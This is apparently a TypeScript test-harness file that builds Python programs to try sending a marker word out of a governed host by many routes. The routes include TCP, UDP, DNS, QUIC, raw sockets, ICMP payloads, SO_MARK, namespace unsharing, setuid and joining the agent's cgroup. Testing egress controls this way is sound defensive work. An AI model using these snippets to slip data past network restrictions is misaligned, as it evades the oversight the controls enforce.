/**
 * Ways out of a governed host, as a job would try them: each a Python program that sends WORD towards TO (IPv4) or TO6 on
 * PORT. It prints what the kernel said; whether something left, the wire tells.
 */
export interface Attempt {
  readonly name: string;
  readonly code: string;
  /** `root` has every capability of the host; `job` is a user with none. */
  readonly as: "job" | "root";
  /** Carries no word, for it never gets so far: the first segment is what is looked for. */
  readonly opening?: true;
  /** Where it cannot be made here even without an agent, the reason that is printed. */
  readonly mayLack?: RegExp;
}

const tcp = (to: string, port = "PORT") => `
s = socket.socket(socket.AF_INET6 if ":" in ${to} else socket.AF_INET)
s.settimeout(2)
s.connect((${to}, ${port})); s.sendall(WORD); print("sent")`;
const udp = (to: string, port = "PORT", before = "") => `
s = socket.socket(socket.AF_INET6 if ":" in ${to} else socket.AF_INET, socket.SOCK_DGRAM)
${before}
s.sendto(WORD, (${to}, ${port})); print("sent")`;

const checksum = `
def checksum(b):
    b += b"\\0" * (len(b) % 2)
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16: n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
`;

export const attempts: readonly Attempt[] = [
  { name: "a TCP connection to a private address", as: "job", opening: true, code: tcp("TO") },
  { name: "a TCP connection over IPv6", as: "job", opening: true, code: tcp("TO6") },
  { name: "an IPv4 address written as IPv6", as: "job", opening: true, code: tcp('"::ffff:" + TO') },
  {
    name: "data in the first segment (TCP Fast Open)",
    as: "job",
    opening: true,
    code: `
s = socket.socket(); s.settimeout(2)
s.sendto(WORD, 0x20000000, (TO, PORT)); print("sent")`,
  },
  { name: "DNS over UDP to a server that is not the host's", as: "job", code: udp("TO", "53") },
  { name: "DNS over TCP to a server that is not the host's", as: "job", opening: true, code: tcp("TO", "53") },
  { name: "DNS over TLS", as: "job", opening: true, code: tcp("TO", "853") },
  { name: "DNS over HTTPS", as: "job", opening: true, code: tcp("TO", "443") },
  { name: "QUIC", as: "job", code: udp("TO", "443") },
  { name: "QUIC over IPv6", as: "job", code: udp("TO6", "443") },
  { name: "UDP to a port of a target", as: "job", code: udp("TO", "5432") },
  { name: "UDP to any port", as: "job", code: udp("TO") },
  { name: "UDP from the port of DHCP", as: "root", code: udp("TO", "PORT", 's.bind(("", 68))') },
  {
    name: "UDP-Lite",
    as: "job",
    mayLack: /EPROTONOSUPPORT|ESOCKTNOSUPPORT/,
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
s.sendto(WORD, (TO, PORT)); print("sent")`,
  },
  {
    name: "SCTP",
    as: "job",
    mayLack: /EPROTONOSUPPORT|ESOCKTNOSUPPORT/,
    opening: true,
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2)
s.connect((TO, PORT)); print("sent")`,
  },
  {
    name: "a ping with data",
    as: "job",
    mayLack: /EACCES|EPERM/,
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
s.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 1]) + WORD, (TO, 0)); print("sent")`,
  },
  {
    name: "a raw socket of an unprivileged job",
    as: "job",
    mayLack: /EPERM/,
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(WORD, (TO, 0)); print("sent")`,
  },
  {
    name: "a raw socket of root: a datagram",
    as: "root",
    code: `${checksum}
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)
s.sendto(struct.pack("!HHHH", 4000, PORT, 8 + len(WORD), 0) + WORD, (TO, 0)); print("sent")`,
  },
  {
    name: "a raw socket of root: a protocol of its own",
    as: "root",
    code: `
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(WORD, (TO, 0)); print("sent")`,
  },
  {
    name: "a raw socket of root: a ping with data",
    as: "root",
    code: `${checksum}
b = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + WORD
b = b[:2] + struct.pack("!H", checksum(b)) + b[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.sendto(b, (TO, 0)); print("sent")`,
  },
  { name: "root without a trick", as: "root", opening: true, code: tcp("TO") },
  {
    name: "SO_MARK of an unprivileged job",
    as: "job",
    mayLack: /EPERM/,
    code: udp("TO", "PORT", "s.setsockopt(1, 36, MARK)"),
  },
  {
    name: "SO_MARK from a user namespace of the job's own",
    as: "job",
    mayLack: /EPERM|ENOSPC/,
    code: `
libc.unshare(0x10000000) == 0 or fail()
${udp("TO", "PORT", "s.setsockopt(1, 36, MARK)")}`,
  },
  {
    name: "a network namespace of the job's own (unshare -n)",
    as: "job",
    mayLack: /ENETUNREACH|EPERM|ENOSPC/,
    code: `
libc.unshare(0x10000000 | 0x40000000) == 0 or fail()
${udp("TO")}`,
  },
  { name: "becoming the agent's user", as: "job", mayLack: /EPERM/, code: `os.setuid(0)${udp("TO")}` },
  {
    name: "joining the agent's cgroup",
    as: "job",
    mayLack: /EACCES|EPERM|ENOENT/,
    code: `
open(CGROUPS + "/cgroup.procs", "w").write(str(os.getpid()))${udp("TO")}`,
  },
  {
    name: "root in the agent's own cgroup",
    as: "root",
    code: `
try: open(CGROUPS + "/cgroup.procs", "w").write(str(os.getpid()))
except OSError: pass
${udp("TO")}`,
  },
];

/** What stands before each attempt. */
export function programOf(
  attempt: Attempt,
  facts: { to: string; to6: string; port: number; word: string; mark: number; cgroups: string },
): string {
  return `
import ctypes, errno, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
TO, TO6, PORT, WORD, MARK, CGROUPS = ${JSON.stringify(facts.to)}, ${JSON.stringify(facts.to6)}, ${facts.port}, b${JSON.stringify(facts.word)}, ${facts.mark}, ${JSON.stringify(facts.cgroups)}
def fail(): raise OSError(ctypes.get_errno(), "")
try:
${attempt.code
  .trim()
  .split("\n")
  .map((line) => `    ${line}`)
  .join("\n")}
except OSError as e:
    print(errno.errorcode.get(e.errno, type(e).__name__))
`;
}
